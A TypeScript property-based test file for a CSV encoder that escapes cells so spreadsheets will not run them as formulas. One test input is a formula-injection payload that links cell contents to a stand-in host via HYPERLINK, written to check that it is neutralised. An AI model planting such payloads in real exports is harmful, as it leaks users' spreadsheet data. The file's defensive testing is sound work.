import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvCell, csvEncoder, looksLikeFormula } from './csv.ts'

/** A minimal RFC 4180 reader that returns rows of cells. `null` is an empty cell without quotation marks. */
function readCsv(text: string): (string | null)[][] {
  const rows: (string | null)[][] = []
  let row: (string | null)[] = []
  let at = 0
  while (at < text.length) {
    let cell: string | null = null
    if (text[at] === '"') {
      cell = ''
      at += 1
      while (text[at] !== '"' || text[at + 1] === '"') {
        if (at >= text.length) throw new Error('A quotation mark is not closed.')
        if (text[at] === '"') at += 1
        cell += text[at]
        at += 1
      }
      at += 1
    } else {
      const end = /[,\r\n"]|$/.exec(text.slice(at))?.index ?? 0
      cell = end === 0 ? null : text.slice(at, at + end)
      at += end
    }
    row.push(cell)
    if (text[at] === ',') {
      at += 1
      if (text.startsWith('\r\n', at)) row.push(null)
    }
    if (text.startsWith('\r\n', at)) {
      rows.push(row)
      row = []
      at += 2
    } else if (at >= text.length || text[at - 1] !== ',') {
      throw new Error(`Neither a comma nor a line end at ${at} of ${JSON.stringify(text)}.`)
    }
  }
  return rows
}

function original(cell: string | null): string | null {
  if (cell === null) return null
  const [first = '', ...later] = cell.split(/(?<=[;|\t\r\n])/u)
  const isEscaped = cell.startsWith("'") && looksLikeFormula(cell.slice(1))
  const rest = later.map((piece) =>
    /^'[\s\p{Cc}\p{Cf}"'`‘’“”]*[=+\-@＝＋－＠]/u.test(piece) ? piece.slice(1) : piece,
  )
  return [isEscaped ? first.slice(1) : first, ...rest].join('')
}

/** Cells as seen by a spreadsheet with a different separator. Quotation marks count only at the start of a cell. */
function cellsBetween(separator: string, text: string): string[] {
  const cells: string[] = []
  for (let at = 0; at < text.length; ) {
    let cell = ''
    if (text[at] === '"') {
      at += 1
      for (; at < text.length && (text[at] !== '"' || text[at + 1] === '"'); at += 1) {
        if (text[at] === '"') at += 1
        cell += text[at]
      }
      at += 1
    }
    for (; at < text.length && !`${separator}\r\n`.includes(text[at] ?? ''); at += 1) cell += text[at]
    at += 1
    cells.push(cell)
  }
  return cells
}

const wild = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc.string({
    unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', '"', "'", ',', ';', '|', 'a'),
  }),
)

const encode = (rows: readonly (readonly unknown[])[], columns: readonly string[], bom = false) => {
  const encoder = csvEncoder(
    columns.map((name) => ({ name })),
    bom,
  )
  return [encoder.begin(), encoder.rows(rows), encoder.end()].join('')
}

describe('CSV', () => {
  it('reads back as it was, in lines that end with CRLF', () => {
    const row = fc.array(fc.oneof(wild, fc.constant(null)), { minLength: 3, maxLength: 3 })
    fc.assert(
      fc.property(fc.array(row), (rows) => {
        const text = encode(rows, ['a', 'b', 'c'])
        expect(text.endsWith('\r\n')).toBe(true)
        const [header, ...read] = readCsv(text)
        expect(header).toEqual(['a', 'b', 'c'])
        expect(read.map((r) => r.map(original))).toEqual(rows)
      }),
    )
  })

  it('holds nothing that a spreadsheet would run', () => {
    const cell = fc.oneof(
      wild,
      fc
        .tuple(fc.stringMatching(/^[\s"']{0,3}$/u), fc.constantFrom('=', '+', '-', '@', '\t', '\r'), wild)
        .map((parts) => parts.join('')),
    )
    fc.assert(
      fc.property(fc.array(cell, { minLength: 2, maxLength: 2 }), cell, (row, name) => {
        const cells = readCsv(encode([row], [name, 'b'])).flat()
        for (const read of cells) expect(read ?? '').not.toMatch(/^[\s"]*[=+\-@\t\r]/u)
      }),
    )
  })

  it.each([',', ';', '\t', '|'])('holds no formula where cells are separated by %j', (separator) => {
    const rows = fc.array(fc.array(wild, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 3 })
    fc.assert(
      fc.property(rows, (some) => {
        for (const cell of cellsBetween(separator, encode(some, ['a', 'b', 'c'])))
          expect(cell).not.toMatch(/^[\s"]*[=+\-@]/u)
      }),
      { numRuns: 1000 },
    )
  })

  it('holds no formula of a text that another language would cut', () => {
    const line = encode([['1', 'hi;=HYPERLINK("http://x.example/"&A1)', 'two\n@SUM(1)']], ['a', 'b', 'c'])
    expect(cellsBetween(';', line)).toContain('\'=HYPERLINK(""http://x.example/""&A1)","two')
    expect(line).toContain("two\n'@SUM(1)")
    expect(csvCell('5 - 3; x = y')).toBe('"5 - 3; x = y"')
  })

  it.each([
    ['=1+1', "'=1+1"],
    ['  =1', "'  =1"],
    ['"=1"', `"'""=1"""`],
    ["'=1", "''=1"],
    ['-5', "'-5"],
    ['＝1', "'＝1"],
    ['\tx', `"'\tx"`],
    ['a=b', 'a=b'],
    ['a;b', '"a;b"'],
    ['it’s 5 - 3', 'it’s 5 - 3'],
  ])('writes the text %j as %s', (text, cell) => {
    expect(csvCell(text)).toBe(cell)
  })

  it('keeps numbers numbers, and tells nothing from empty', () => {
    const row = [-5, 1.5, true, null, '', ['a', 'b"'], { x: 1 }, 1e-7]
    expect(row.map(csvCell)).toEqual([
      '-5',
      '1.5',
      'true',
      '',
      '""',
      '"[""a"",""b\\""""]"',
      '"{""x"":1}"',
      '1e-7',
    ])
  })

  it('never writes an empty line, and a byte-order mark only where it is wanted', () => {
    expect(encode([[null], ['x']], ['a'])).toBe('a\r\n""\r\nx\r\n')
    expect(encode([], ['a'], true)).toBe('\uFEFFa\r\n')
  })
})
